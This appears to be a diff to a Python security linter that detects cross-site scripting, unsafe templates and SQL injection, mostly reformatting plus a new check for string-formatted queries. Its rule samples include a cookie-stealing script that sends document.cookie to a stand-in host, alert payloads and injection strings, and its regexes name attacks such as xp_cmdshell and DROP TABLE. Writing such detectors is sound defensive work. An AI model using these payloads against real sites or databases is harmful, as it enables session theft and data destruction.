@@ -28,7 +28,11 @@ SCRIPT = Rule(
     "ask",
     "nothing",
     "The markup carries a script of the kind that takes cookies or is used to break pages.",
-    bad=("page = '<img src=x onerror=alert(1)>'", "s = '<script>fetch(\"http://x/?\" + document.cookie)</script>'", "#!bash\necho '<script>alert(1)</script>' > a.html"),
+    bad=(
+        "page = '<img src=x onerror=alert(1)>'",
+        "s = '<script>fetch(\"http://x/?\" + document.cookie)</script>'",
+        "#!bash\necho '<script>alert(1)</script>' > a.html",
+    ),
     good=("page = '<script src=\"plot.js\"></script>'",),
 )
 QUERY = Rule(
@@ -36,19 +40,37 @@ QUERY = Rule(
     "ask",
     "nothing",
     "Text is pasted into a query, where it can end it and start another.",
-    bad=("import sqlite3\nc = sqlite3.connect(':memory:')\nn = input()\nc.execute(f\"SELECT * FROM t WHERE n = '{n}'\")", "q = \"SELECT * FROM u WHERE n = 'x' OR '1'='1'\""),
-    good=("import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('SELECT * FROM t WHERE n = ?', ('a',))", "t = 'a'\ndef f(c, t):\n    c.execute(f'SELECT * FROM {t}')"),
+    bad=(
+        "import sqlite3\nc = sqlite3.connect(':memory:')\nn = input()\nc.execute(f\"SELECT * FROM t WHERE n = '{n}'\")",
+        "q = \"SELECT * FROM u WHERE n = 'x' OR '1'='1'\"",
+    ),
+    good=(
+        "import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('SELECT * FROM t WHERE n = ?', ('a',))",
+        "t = 'a'\ndef f(c, t):\n    c.execute(f'SELECT * FROM {t}')",
+    ),
 )
 RULES = (MARKUP, SCRIPT, QUERY)
 
-_TAG = re.compile(r"<\s*(?:h[1-6]|p|div|span|html|body|b|i|a|td|li|script|input|form|title|br|strong|em|pre|img|iframe)\b", re.IGNORECASE)
+_TAG = re.compile(
+    r"<\s*(?:h[1-6]|p|div|span|html|body|b|i|a|td|li|script|input|form|title|br|strong|em|pre|img|iframe)\b",
+    re.IGNORECASE,
+)
 _BAD_SCRIPT = re.compile(
     r"document\.cookie|\bon(?:error|load|mouseover|click|focus)\s*=\s*[\"']?\s*(?:alert|eval|fetch|window|document|prompt|confirm)|<\s*script[^>]*>\s*(?:alert|prompt|confirm|eval)\s*\(|javascript:\s*(?:alert|eval|document|window|fetch)",
     re.IGNORECASE,
 )
-_SENT = re.compile(r"^(?:flask\.request\.|bottle\.request\.|.*\brequest\.(?:args|form|values|GET|POST|query_params|cookies|json)\b|cgi\.FieldStorage)")
-_INJECTED = re.compile(r"'\s*or\s+'?1'?\s*=\s*'?1|\bunion\s+(?:all\s+)?select\b.*\bfrom\b.*(?:password|users|information_schema)|;\s*drop\s+table\b|'\s*;\s*--|\bor\s+1\s*=\s*1\b|xp_cmdshell|\bsleep\(\d+\)\s*--", re.IGNORECASE)
-_QUERY_HOLE = re.compile(rf"\b(?:select|insert|update|delete)\b.*?(?:'[%\w\s]*{HOLE}|=\s*{HOLE}|\(\s*{HOLE}|,\s*{HOLE}|like\s+\S*{HOLE})", re.IGNORECASE | re.DOTALL)
+_SENT = re.compile(
+    r"^(?:flask\.request\.|bottle\.request\.|.*\brequest\.(?:args|form|values|GET|POST|query_params|cookies|json)\b|cgi\.FieldStorage)"
+)
+_INJECTED = re.compile(
+    r"'\s*or\s+'?1'?\s*=\s*'?1|\bunion\s+(?:all\s+)?select\b.*\bfrom\b.*(?:password|users|information_schema)|;\s*drop\s+table\b|'\s*;\s*--|\bor\s+1\s*=\s*1\b|=\s*'[^'\n]{0,60}'\s*(?:--|\#)|xp_cmdshell|\bsleep\(\d+\)\s*--",
+    re.IGNORECASE,
+)
+_PLACE = re.compile(r"\b(?:select|insert|update|delete)\b.*'%?(?:%s|\{\w*\})", re.IGNORECASE | re.DOTALL)
+_QUERY_HOLE = re.compile(
+    rf"\b(?:select|insert|update|delete)\b.*?(?:'[%\w\s]*{HOLE}|=\s*{HOLE}|\(\s*{HOLE}|,\s*{HOLE}|like\s+\S*{HOLE})",
+    re.IGNORECASE | re.DOTALL,
+)
 
 
 def python(program: Program) -> Iterator[Finding]:
@@ -60,7 +82,9 @@ def python(program: Program) -> Iterator[Finding]:
         if isinstance(node, ast.Constant) and isinstance(node.value, str) and not _is_docstring(program, node):
             text = node.value[:20_000]
             if _BAD_SCRIPT.search(text):
-                yield SCRIPT.at(node.lineno, "holds a script of the kind that attacks a page's visitors", node.col_offset + 1)
+                yield SCRIPT.at(
+                    node.lineno, "holds a script of the kind that attacks a page's visitors", node.col_offset + 1
+                )
             elif _INJECTED.search(text):
                 yield QUERY.at(node.lineno, "holds a query built to break out of another", node.col_offset + 1)
 
@@ -72,14 +96,49 @@ def _is_docstring(program: Program, node: ast.Constant) -> bool:
 def _call(program: Program, call: Call) -> Iterator[Finding]:
     last = call.name.rsplit(".", 1)[-1]
     given = [value for values in call.args for value in values]
-    if call.name.endswith("render_template_string") or (last == "from_string" and "jinja2" in call.name) or call.name in ("jinja2.Template", "mako.template.Template"):
+    if (
+        call.name.endswith("render_template_string")
+        or (last == "from_string" and "jinja2" in call.name)
+        or call.name in ("jinja2.Template", "mako.template.Template")
+    ):
         if any(HOLE in as_text(value) for value in call.argument(0, "source")):
             yield MARKUP.at(call.line, "makes a template out of what is sent", call.column)
-    elif call.name.endswith(("markupsafe.Markup", "flask.Markup", "mark_safe")) and any(HOLE in as_text(value) for value in given[:1]):
+    elif call.name.endswith(("markupsafe.Markup", "flask.Markup", "mark_safe")) and any(
+        HOLE in as_text(value) for value in given[:1]
+    ):
         yield MARKUP.at(call.line, "declares text safe that is known only at run time", call.column)
     elif last in ("execute", "executescript", "executemany", "raw") and given:
-        if any(isinstance(value, str) and _QUERY_HOLE.search(value[:4000]) for value in call.argument(0, "sql", "query")):
+        known = [value for value in call.argument(0, "sql", "query") if isinstance(value, str)]
+        if any(_QUERY_HOLE.search(value[:4000]) or _INJECTED.search(value[:4000]) for value in known) or (
+            call.node.args and _pasted(program, call.node.args[0])
+        ):
             yield QUERY.at(call.line, "pastes text into a query", call.column)
+
+
+def _pasted(program: Program, expr: ast.expr) -> bool:
+    """Whether a query is formatted with something between quotes."""
+    found = program.names.lookup(expr.id, program.function(expr)) if isinstance(expr, ast.Name) else None
+    for part in [expr, *(bind.expr for bind in (found[1] if found else ())[:6] if bind.expr is not None)]:
+        if isinstance(part, ast.BinOp) and isinstance(part.op, ast.Mod) and isinstance(part.left, ast.Constant):
+            if _PLACE.search(str(part.left.value)) and isinstance(part.right, (ast.Name, ast.Tuple, ast.Call)):
+                return True
+        elif (
+            isinstance(part, ast.Call)
+            and isinstance(part.func, ast.Attribute)
+            and part.func.attr == "format"
+            and isinstance(part.func.value, ast.Constant)
+        ):
+            if _PLACE.search(str(part.func.value.value)):
+                return True
+        elif isinstance(part, ast.JoinedStr):
+            for before, hole in zip(part.values, part.values[1:], strict=False):
+                if (
+                    isinstance(before, ast.Constant)
+                    and str(before.value).rstrip("%").endswith("'")
+                    and isinstance(hole, ast.FormattedValue)
+                ):
+                    return True
+    return False
 
 
 def _pages(program: Program) -> Iterator[Finding]:
@@ -88,21 +147,41 @@ def _pages(program: Program) -> Iterator[Finding]:
             function = program.function(node)
             if isinstance(function, (ast.FunctionDef, ast.AsyncFunctionDef)) and _is_route(function):
                 yield from _page(program, node.value, node.lineno, function)
-        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "write" and node.args:
+        elif (
+            isinstance(node, ast.Call)
+            and isinstance(node.func, ast.Attribute)
+            and node.func.attr == "write"
+            and node.args
+        ):
             function = program.function(node)
-            if isinstance(function, (ast.FunctionDef, ast.AsyncFunctionDef)) and function.name in ("do_GET", "do_POST", "get", "post"):
+            if isinstance(function, (ast.FunctionDef, ast.AsyncFunctionDef)) and function.name in (
+                "do_GET",
+                "do_POST",
+                "get",
+                "post",
+            ):
                 yield from _page(program, node.args[0], node.lineno, function)
 
 
 def _is_route(function: ast.FunctionDef | ast.AsyncFunctionDef) -> bool:
     for decorator in function.decorator_list:
         target = decorator.func if isinstance(decorator, ast.Call) else decorator
-        if isinstance(target, ast.Attribute) and target.attr in ("route", "get", "post", "put", "delete", "api_route", "errorhandler"):
+        if isinstance(target, ast.Attribute) and target.attr in (
+            "route",
+            "get",
+            "post",
+            "put",
+            "delete",
+            "api_route",
+            "errorhandler",
+        ):
             return True
     return False
 
 
-def _page(program: Program, expr: ast.expr, line: int, function: ast.FunctionDef | ast.AsyncFunctionDef) -> Iterator[Finding]:
+def _page(
+    program: Program, expr: ast.expr, line: int, function: ast.FunctionDef | ast.AsyncFunctionDef
+) -> Iterator[Finding]:
     for value in program.values(expr):
         sent = isinstance(value, Ref) and _SENT.match(value.name)
         text = as_text(value)
@@ -112,7 +191,11 @@ def _page(program: Program, expr: ast.expr, line: int, function: ast.FunctionDef
 
 
 def _escapes(function: ast.FunctionDef | ast.AsyncFunctionDef) -> bool:
-    names = (getattr(node.func, "attr", getattr(node.func, "id", "")) for node in ast.walk(function) if isinstance(node, ast.Call))
+    names = (
+        getattr(node.func, "attr", getattr(node.func, "id", ""))
+        for node in ast.walk(function)
+        if isinstance(node, ast.Call)
+    )
     return any(name in ("escape", "render_template", "jsonify", "quote", "clean") for name in names)
 
 
